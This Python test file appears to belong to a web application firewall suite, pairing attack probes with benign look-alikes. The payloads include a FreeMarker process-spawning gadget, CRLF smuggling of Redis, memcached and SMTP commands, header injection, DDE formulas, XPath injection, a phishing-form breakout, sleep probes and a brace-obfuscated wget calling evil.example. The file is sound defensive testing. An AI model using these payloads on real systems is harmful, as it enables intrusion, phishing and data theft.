"""WAF, part 2l: held-out probes, tenth file (README: the twenty-second
round), written for this file on 2026-12-05 after the round's two new
held-out corpora (tests/corpus/science/, tests/corpus/commerce/) were
first replayed and BEFORE any rule was changed for the classes they
showed. No string is taken from a corpus or a public list: each class is
written here in shapes of our own, through the real edge (shipped config,
bans off).

Look-alikes that must pass, by class:
- text-entity: named entities of text in rich text ("&copy;", "&eacute;",
  "&mdash;"): a browser shows their characters; left undecoded, "&copy;"
  read as a separator, a command and a ";";
- freemarker-flow: FreeMarker's control flow ("<#if>", "<#list>") in a
  shop's mail template runs nothing of its own, as Jinja's "{% if %}";
- xml-namespace: a record's or a sitemap's own vocabulary ("<dc:title>",
  "<image:title>", "xmlns:dcterms=..."): no prefix bound to a namespace
  of markup that runs;
- env-modules: a cluster's "module load gcc/13.1" (Redis's MODULE LOAD
  takes a shared object);
- cache-protocol, mail-protocol, extension-header: a line after a line
  break that a protocol would not read as its own (a sentence, a label,
  "Data sheet attached");
- unicode-break-header: a line after U+2028 whose label is no header;
- dde-formula: a list item with a quoted word, arithmetic in a note;
- xpath-path: "or" before a path in prose;
- attr-breakout: markup that opens its own tags, a quote and ">" in prose;
- delay-probe: sleep in prose, its number counting something;
- access-log: an access log's line after a label;
- brace-word: LaTeX's decimal comma in a number ("3{,}517").

Attacks that must be refused, by class:
- text-entity: a command between "&" and ";" that is no entity;
- freemarker-flow: a builtin that constructs an object, inside a loop;
- xml-namespace: a prefix bound to XHTML's namespace on a script;
- env-modules: Redis's MODULE LOAD of a shared object after a key;
- cache-protocol: Redis writes of a namespaced key and memcached's
  storage command after a field's value and a line break;
- mail-protocol: SMTP's RCPT and DATA after an address and a line break;
- extension-header: an x- header as the last line after one or two
  tokens and a typed CR LF;
- unicode-break-header: a header after U+2028, U+2029 or NEL;
- dde-formula: DDE after operands whose "+" a form decoder reads as a
  blank (the value has a "%" that makes it decode);
- xpath-path: a location path as the operand of "or" after a quote,
  and a numeric predicate closed before a union;
- attr-breakout: a quote and ">" that close an attribute and its tag
  from the value's start, then an element with attributes (a link, a
  form);
- delay-probe: sleep with a number ending the value after a separator,
  after two words of prose too (a blind injection's timing probe);
- access-log: an access log's line (address, identity, user, bracketed
  time) after a spelled line break;
- brace-word: an empty brace list glued inside a command's name.

Measured before the change (2026-12-05, on d5643e5): 28 of 51 probes
failed. Look-alikes refused: text-entity 1 of 2, freemarker-flow 2 of 2,
xml-namespace 2 of 2, env-modules 1 of 1, brace-word 1 of 1. Attacks
passed: env-modules 1 of 1, cache-protocol 3 of 3, mail-protocol 2 of 2,
extension-header 2 of 2 (each in a JSON body, where the line break is
typed), unicode-break-header 3 of 3, dde-formula 2 of 2, xpath-path 2 of
2, attr-breakout 1 of 2 (the form was refused as an element), delay-probe
3 of 3, access-log 2 of 2. After it: every attack refused, every
look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "text-entity": ["q&whoami;", "7&uname;"],
    "freemarker-flow": [
        "<#list [2] as k>${(\"freemarker.template.utility.\" + \"ObjectConstructor\")?new()"
        "(\"java.lang.ProcessBuilder\", [\"uname\"]).start()}</#list>",
    ],
    "xml-namespace": [
        "<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(7)</h:script>",
        "<z:script xmlns:z=\"http://www.w3.org/1999/xhtml\" src=\"//evil.example/a.js\"/>",
    ],
    "env-modules": ["c:1\r\nMODULE LOAD /var/tmp/m.so\r\n"],
    "cache-protocol": [
        "basket:77\r\nSET session:root owned\r\n",
        "sku_19\r\nset sess:root 0 900 4\r\nroot\r\n",
        "k:1\nDEL session:abc\n",
    ],
    "mail-protocol": [
        "carol@example.net>\r\nRCPT TO:<drop@evil.example",
        "carol@example.net\r\nDATA\r\nSubject: refund\r\n\r\nclick\r\n.\r\n",
    ],
    "extension-header": ["application/xml\r\nX-Debug-Mode: on", "Token abc123\r\nX-Role: admin"],
    "unicode-break-header": [
        "Mountain\u2028Set-Cookie: token=fixed",
        "lake\u2029Location: https://evil.example/",
        "otter\u0085X-Forwarded-For: 127.0.0.1",
    ],
    "dde-formula": ["+4-1+cmd|'/c calc %WINDIR%\\x'!C3", "-6+2+cmd|'/c start %0'!D4"],
    "xpath-path": ["q' or //account[@type='root']/secret or 'x'='y", "7]|//*|//*[7"],
    "attr-breakout": [
        "Orchard\"><a href=\"https://evil.example/signin\" class=\"btn\">Confirm your shop</a>",
        "lamp' ><form method=post action=//evil.example/checkout><input name=card>",
    ],
    "delay-probe": ["Lena Berg; sleep 17", "Lena Berg && sleep 9", "Lena Berg | sleep 23"],
    "access-log": [
        "boots%0d%0a203.0.113.4 - root [21/Feb/2025:07:15:02 +0100] \"DELETE /orders HTTP/1.1\" 204",
        "tea\\u000a192.0.2.8 - root [11/Jun/2025:09:00:00 +0000] \"POST /login HTTP/1.1\" 302",
    ],
    "brace-word": ["ca{,}t /etc/hosts", "w{,}get evil.example/x"],
}

BENIGN = {
    "text-entity": [
        "<p>&copy; 2025 Bakery &amp; Co. &mdash; all rights reserved</p>",
        "Caf&eacute; cr&egrave;me &euro;3 &ndash; open daily",
    ],
    "freemarker-flow": [
        "<#if customer.vip>Thanks for being a VIP!</#if> Total: ${cart.total}",
        "<#list order.items as it>${it.name} x ${it.qty}</#list>",
    ],
    "xml-namespace": [
        "<site xmlns:geo=\"http://www.example.org/geo/1.0\"><geo:title>Field notes"
        "</geo:title></site>",
        "<url><loc>https://tea.example/p/9</loc><image:image><image:title>Teapot</image:title>"
        "</image:image></url>",
    ],
    "env-modules": ["module restore default\nmodule load python/3.12 hdf5/1.14"],
    "cache-protocol": ["Shopping list\nset the table for 6"],
    "mail-protocol": ["alice@example.org\r\nData sheet attached"],
    "extension-header": ["Cardio\r\nX-rays look fine"],
    "unicode-break-header": ["Notes\u2028Venue: Berlin office"],
    "dde-formula": ["- item | 'quoted' !", "-5+3 = -2 (see cell B1)"],
    "xpath-path": ["Ann's or /opt/tools/bin is fine", "the quote ' or // starts a comment"],
    "attr-breakout": [
        "<div class=\"card\"><a href=\"/shop/mugs\">Mugs</a></div>",
        "He said \"fine\"> then left",
    ],
    "delay-probe": ["Monday | sleep 8 hours", "Long shift; sleep at last"],
    "access-log": ["Access log excerpt:\n192.0.2.77 - - [14/Aug/2025:18:40:09 +0200] \"HEAD /robots.txt HTTP/1.0\" 404"],
    "brace-word": ["a sample of $N = 3{,}517$ households"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r10_attack_refused_everywhere,
 test_heldout_r10_benign_passes) = heldout_probe_tests(
    "r10", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
